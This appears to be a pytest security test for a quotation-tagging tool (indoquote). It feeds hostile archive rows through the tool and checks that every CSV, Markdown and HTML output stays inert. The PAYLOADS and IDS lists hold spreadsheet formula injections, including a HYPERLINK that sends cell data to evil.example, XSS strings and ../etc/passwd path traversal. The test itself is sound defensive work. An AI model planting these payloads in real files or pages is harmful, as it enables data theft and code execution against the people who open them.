"""A hostile archive through ``predict`` and ``report``: nothing in any output would run where a person opens it.

Outlet, speaker, role and text carry formula-leading cells (``=``, ``+``, ``-``, ``@``,
tab, CR), ``<script>`` and attribute injection; ids carry ``../``. Every file the
commands write is then read the way a spreadsheet, a Markdown viewer and a browser
would read it (:func:`assert_inert`).
"""

from __future__ import annotations

import csv
import dataclasses
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from indoquote.archive.engines import TaggerSpec
from indoquote.cli import predict_cli
from indoquote.cli.report import report_cli
from indoquote.quotes.records import QuoteRecord

from archive_data import articles, write_csv, write_jsonl

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<img src=x onerror=alert(1)>",
    "[klik](javascript:alert(1))",
    "</td></tr></table><iframe src=//evil.example>",
]
IDS = ["../../etc/passwd", "../x", "=cmd|' /C calc'!A0", "<script>alert(1)</script>", 'a"><img src=x onerror=alert(1)>',
       "..\\..\\win", "-1", "@id", "\tid", "ok-id", "+id", "<b>"]


def hostile_rows() -> list[dict]:
    rows = []
    for i, (base, payload, id) in enumerate(zip(articles(len(PAYLOADS)), PAYLOADS, IDS)):
        speaker, role = PAYLOADS[(i + 1) % len(PAYLOADS)], PAYLOADS[(i + 2) % len(PAYLOADS)]
        text = f'{payload} {base["text"]}\n\n"{payload} kami tolak semuanya," kata {speaker}, {role}.'
        rows.append({"id": id, "text": text, "outlet": payload, "section": speaker, "date": base["date"],
                     "speaker_planted": speaker, "role_planted": role})
    return rows


class PlantedTagger:
    """The tiny model's tagging, with every quotation credited to the speaker and role planted in the page.

    Stands in for a trained model that tags the planted names (the random tiny
    model tags names at random), so hostile values reach the speaker and role
    columns as they would from a real page.
    """

    def __init__(self, tagger, planted: dict[str, tuple[str, str]]):
        self.tagger, self.planted = tagger, planted

    def _credit(self, art):
        speaker, role = self.planted.get(art.id.split("#")[0], (None, None))
        end = art.text.rfind('"')
        start = art.text.rfind('"', 0, end)
        records = list(art.records) or [QuoteRecord(art.text[start + 1 : end], start, end + 1)]
        return dataclasses.replace(art, records=[dataclasses.replace(r, speaker=speaker, role=role, affiliation=role)
                                                 for r in records])

    def iter_tag(self, items, progress=False):
        return (self._credit(a) for a in self.tagger.iter_tag(items, progress=progress))

    def tag_batch(self, texts, ids, progress=False):
        return [self._credit(a) for a in self.tagger.tag_batch(texts, ids, progress=progress)]


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


ACTIVE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
               "textarea", "select", "base", "link", "svg", "math", "template", "video", "audio", "source"}
"""Elements that run, load or submit something; none may appear (a page's own markup uses none of them)."""


def assert_inert(folder: Path) -> int:
    """Every CSV, Markdown and HTML file under ``folder`` is inert; returns how many files were read."""
    n = 0
    for path in sorted(folder.rglob("*")):
        if path.suffix == ".csv":
            for row in csv.reader(path.open(encoding="utf-8", newline="")):
                bad = [c for c in row if c.startswith(FORMULA_START)]
                assert not bad, f"{path.name}: a spreadsheet would run {bad}"
        elif path.suffix == ".md":
            text = path.read_text(encoding="utf-8")
            assert "<" not in text, f"{path.name}: raw HTML"
            links = re.findall(r"(?<!\\)\]\(([^)]*)\)", text)
            assert all(link.startswith("charts/") for link in links), f"{path.name}: links {links}"
        elif path.suffix == ".html":
            page = _Page()
            page.feed(path.read_text(encoding="utf-8"))
            head = page.tags[: next(i for i, (t, _) in enumerate(page.tags) if t == "body")]
            assert any(t == "meta" and ("http-equiv", "Content-Security-Policy") in a for t, a in head), path.name
            for tag, attrs in page.tags:
                assert tag not in ACTIVE_TAGS, f"{path.name}: <{tag}>"
                assert tag != "meta" or ("http-equiv", "refresh") not in attrs
                for name, value in attrs:
                    assert not name.startswith("on") and name not in {"autofocus", "srcdoc", "formaction"}, (tag, name)
                    if name == "href":
                        assert value.startswith("#"), value
                    if name == "src":
                        assert value.startswith("data:image/png;base64,"), value
        else:
            continue
        n += 1
    return n


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_a_hostile_archive_through_predict_and_report(tmp_path, tiny_checkpoint, monkeypatch, capsys, fmt):
    rows = hostile_rows()
    planted = {r["id"]: (r["speaker_planted"], r["role_planted"]) for r in rows}
    real_load = TaggerSpec.load
    monkeypatch.setattr(TaggerSpec, "load", lambda spec: PlantedTagger(real_load(spec), planted))
    src = tmp_path / "in"
    src.mkdir()
    inputs = write_jsonl(rows, src / "a.jsonl") if fmt == "jsonl" else write_csv(rows, src / "a.csv")
    out, rep = tmp_path / "out", tmp_path / "rep"
    assert predict_cli([str(inputs), "--model", str(tiny_checkpoint), "-o", str(out), "--shard-rows", "5"]) == 0
    assert report_cli([str(out), "-o", str(rep), "--outlet-column", "outlet"]) == 0
    assert assert_inert(rep) >= 8  # report.md, report.html and the CSV tables
    speakers = (rep / "speakers.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in speakers and "'@SUM(1+1)" in speakers  # kept, as text
    outlets = (rep / "outlets.csv").read_text(encoding="utf-8")
    assert "'+cmd|" in outlets and "<script>alert(1)</script>" in outlets  # CSV is data: HTML stays as written
    html = (rep / "report.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    # the ids are data: kept as given in the table, and no file is named after one
    import pyarrow.parquet as pq

    ids = set(pq.read_table(out, columns=["article_id"]).column("article_id").to_pylist())
    assert set(IDS) <= ids
    written = {str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*")}
    assert all(w.split("/")[0] in {"in", "out", "rep"} for w in written) and not any(".." in w for w in written)
    assert not (tmp_path.parent / "etc").exists() and not (tmp_path / "x").exists()


def test_hostile_text_and_ids_through_plain_predict(tmp_path, tiny_checkpoint, capsys):
    rows = hostile_rows()
    src = tmp_path / "a.jsonl"
    src.write_text("".join(json.dumps({"id": r["id"], "text": r["text"]}) + "\n" for r in rows), encoding="utf-8")
    page = tmp_path / "page.html"
    assert predict_cli([str(src), "--model", str(tiny_checkpoint), "--format", "html", "-o", str(page)]) == 0
    assert assert_inert(tmp_path) == 1
    text = page.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text and "<script>" not in text
    assert predict_cli([str(src), "--model", str(tiny_checkpoint), "-o", str(tmp_path / "out.jsonl")]) == 0
    back = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [b["id"] for b in back] == IDS  # JSON is data: ids and text come back exactly as given
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.jsonl", "out.jsonl", "page.html"]
